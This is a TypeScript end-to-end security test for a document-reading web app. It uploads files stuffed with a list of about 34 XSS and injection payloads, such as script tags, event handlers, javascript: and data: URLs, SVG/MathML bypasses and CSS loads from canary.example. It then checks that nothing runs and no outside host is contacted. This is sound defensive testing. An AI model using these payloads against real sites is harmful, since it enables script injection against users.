import { Document as DocxDocument, Packer, Paragraph, TextRun } from 'docx';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openWorkbench, type Workbench } from './open-workbench.ts';

/** Called by whatever runs. Another host is asked by whatever loads. */
const CALL = 'globalThis.__canary(1)';
const HOST = 'http://canary.example';

/** Ways to make a page run or fetch something: markup, attributes, vectors, styles, addresses, entities. */
const TRICKS: readonly string[] = [
  `<script>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script src="${HOST}/x.js"></script>`,
  `<script type="module">import "${HOST}/x.js"; ${CALL}</script>`,
  `<img src=x onerror="${CALL}">`,
  `<img src="${HOST}/pixel.png" srcset="${HOST}/2.png 2x">`,
  `<svg onload="${CALL}"><script>${CALL}</script></svg>`,
  `<svg><animate onbegin="${CALL}" attributeName=x dur=1s></svg>`,
  `<svg><foreignObject><body onload="${CALL}"></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${CALL}'/></svg>#x"/></svg>`,
  `<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;"></mglyph></mtext></math>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${CALL.slice(11)}&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object><embed src="${HOST}/e.swf">`,
  `<a href="javascript:${CALL}">the report</a>`,
  `<a href="JaVaScRiPt&colon;${CALL}">the report</a>`,
  `<a href="&#106;&#97;&#118;&#97;script:${CALL}">the report</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19jYW5hcnkoMSk8L3NjcmlwdD4=">the report</a>`,
  `[the report](javascript:${CALL})`,
  `![picture](${HOST}/m.png)`,
  `<style>@import "${HOST}/a.css"; body { background: url(${HOST}/b.png) } * { display: none !important }</style>`,
  `<link rel=stylesheet href="${HOST}/c.css"><link rel=prefetch href="${HOST}/p"><link rel=dns-prefetch href="${HOST}">`,
  `<meta http-equiv="refresh" content="0;url=${HOST}/r">`,
  `<base href="${HOST}/">`,
  `<form action="${HOST}/f"><button formaction="javascript:${CALL}" autofocus onfocus="${CALL}">x</button></form>`,
  `<input autofocus onfocus="${CALL}"><details open ontoggle="${CALL}">x</details>`,
  `<video src="${HOST}/v.mp4" onerror="${CALL}"></video><audio src=x onerror="${CALL}"></audio>`,
  `<body onload="${CALL}" onpageshow="${CALL}">`,
  `<div style="background:url('${HOST}/s.png');width:expression(${CALL})">x</div>`,
  `<template><script>${CALL}</script></template><noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
  `&lt;script&gt;${CALL}&lt;/script&gt; &#60;img src=x onerror=${CALL}&#62;`,
  `<!--><script>${CALL}</script>--> <![CDATA[<script>${CALL}</script>]]>`,
  `"><script>${CALL}</script> '-${CALL}-' {{constructor.constructor('${CALL}')()}} \${${CALL}}`,
  `\u202e<script>${CALL}</script>\u0000<img src=x onerror=${CALL}>`,
];

const NUL = String.fromCharCode(0);
const withoutNul = (text: string): string => text.replaceAll(NUL, '');

const SENTENCE = 'In May 2009 the Haqqani network attacked the Afghan National Army near Khost.';

const hostileDocx = async (trick: string): Promise<Buffer> =>
  Buffer.from(
    await Packer.toBuffer(
      new DocxDocument({
        title: withoutNul(trick),
        creator: withoutNul(trick),
        sections: [
          {
            children: [`${SENTENCE} ${withoutNul(trick)}`].map(
              (text) => new Paragraph({ children: [new TextRun(text)] }),
            ),
          },
        ],
      }),
    ),
  );

/** Tricks in one HTML document; more would hide one another. */
const TOGETHER = 4;

/** Every trick as the body, the title and the name of a file, in each format that is read. */
const filesOf = async (): Promise<readonly File[]> => {
  const nameOf = (trick: string): string => withoutNul(trick).replace(/[/\\]/g, '_').slice(0, 120);
  const pages = Array.from({ length: Math.ceil(TRICKS.length / TOGETHER) }, (_, i) => {
    const some = TRICKS.slice(i * TOGETHER, (i + 1) * TOGETHER);
    const body = some.map((trick) => `<p>${SENTENCE}</p>${trick}`).join('\n');
    return new File(
      [`<html><head><title>${some[0]}</title></head><body>${body}</body></html>`],
      `${i}${nameOf(some[1] ?? some[0]!)}.html`,
    );
  });
  const all = TRICKS.map((trick, i) => `${SENTENCE} Case ${i}. ${trick}`).join('\n\n');
  const docx = new Uint8Array(await hostileDocx(TRICKS.join(' ')));
  return [
    ...pages,
    new File([all], `${nameOf(TRICKS[4]!)}.txt`),
    new File(
      [`---\ntitle: ${JSON.stringify(TRICKS[0])}\n---\n\n# ${TRICKS[4]}\n\n${all}\n`],
      `${nameOf(TRICKS[6]!)}.md`,
    ),
    new File([docx], `${nameOf(TRICKS[5]!)}.docx`),
  ];
};

let workbench: Workbench;
const fired: string[] = [];
beforeAll(async () => {
  workbench = await openWorkbench();
});
afterAll(() => workbench.close());

/** A page with a canary that tells if anything calls it, and which never leaves its origin. */
const watched = async (path: string): Promise<Page> => {
  const page = await workbench.open('/library');
  await page.exposeFunction('__canary', () => fired.push(page.url()));
  page.on('dialog', (dialog) => {
    fired.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('popup', (popup) => fired.push(popup.url()));
  await page.goto(workbench.address + path);
  return page;
};

describe('documents that want to run', () => {
  it('are text in every room: nothing in them runs, and no other host is asked', async () => {
    const files = await filesOf();
    const form = new FormData();
    for (const file of files) form.append('files', file);
    const posted = await fetch(`${workbench.address}/api/documents`, { method: 'POST', body: form });
    expect(posted.status).toBe(202);
    await expect
      .poll(
        async () => {
          const { jobs } = await (await fetch(`${workbench.address}/api/jobs`)).json();
          return jobs.filter(({ state }: { state: string }) => state === 'waiting' || state === 'running')
            .length;
        },
        { timeout: 60_000, interval: 200 },
      )
      .toBe(0);
    const { documents } = await (await fetch(`${workbench.address}/api/documents`)).json();
    const { jobs } = await (await fetch(`${workbench.address}/api/jobs`)).json();
    // A tag that is never closed may swallow all that follows: that file is refused, and says so.
    const failed = jobs.filter(({ state }: { state: string }) => state === 'failed');
    for (const { name, reason } of failed)
      expect([name.slice(-3), reason]).toEqual(['.md', expect.stringMatching(/holds no text/)]);
    expect(documents.length).toBe(files.length - failed.length);
    expect(documents.length).toBeGreaterThan(files.length - 2);

    const page = await watched('/library');
    await page.locator('.document-title').first().waitFor();
    for (const row of await page.locator('tr').all()) await row.hover({ timeout: 300 }).catch(() => {});
    let marked = 0;
    for (const { id } of documents) {
      await page.goto(`${workbench.address}/reading/${id}`);
      await page.locator('article.text').waitFor();
      marked += await page.locator('[data-claim]').count();
      expect(
        await page
          .locator('article.text')
          .locator(
            'script, iframe, object, embed, img, svg, style, link, form, a[href^="javascript"], a[href^="data"]',
          )
          .count(),
      ).toBe(0);
    }
    // The sentences among the tricks are read all the same.
    expect(marked).toBeGreaterThan(documents.length / 2);
    for (const room of ['/map', '/map?view=table', '/library']) {
      await page.goto(workbench.address + room);
      await page.locator('main').waitFor();
      await page.waitForTimeout(150);
    }
    expect(fired).toEqual([]);
    expect(workbench.complaints).toEqual([]);
    expect(new URL(page.url()).origin).toBe(workbench.address);
    await page.context().close();
  }, 180_000);

  it('come back as files to keep, never as pages', async () => {
    const { documents } = await (await fetch(`${workbench.address}/api/documents`)).json();
    for (const { id } of documents.slice(0, 12)) {
      const original = await fetch(`${workbench.address}/api/documents/${id}/original`);
      expect(original.headers.get('content-type')).toBe('application/octet-stream');
      expect(original.headers.get('content-disposition')).toMatch(
        /^attachment; filename\*=UTF-8''[\w.%~!'()*-]+$/,
      );
      expect(original.headers.get('x-content-type-options')).toBe('nosniff');
      expect(original.headers.get('content-security-policy')).toContain("default-src 'none'");
    }
  });

  it('has a canary that would tell', async () => {
    const page = await watched('/library');
    await page.evaluate('globalThis.__canary(1)');
    expect(fired).toHaveLength(1);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.__canary(2)';
      document.body.append(script);
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.__canary(3)">');
    });
    await page.waitForTimeout(300);
    // What the policy forbids does not run even in the page itself.
    expect(fired).toHaveLength(1);
    expect(workbench.complaints.join(' ')).toMatch(/Content Security Policy/);
    workbench.forgive(/Content Security Policy|404/);
    await page.context().close();
  });
});
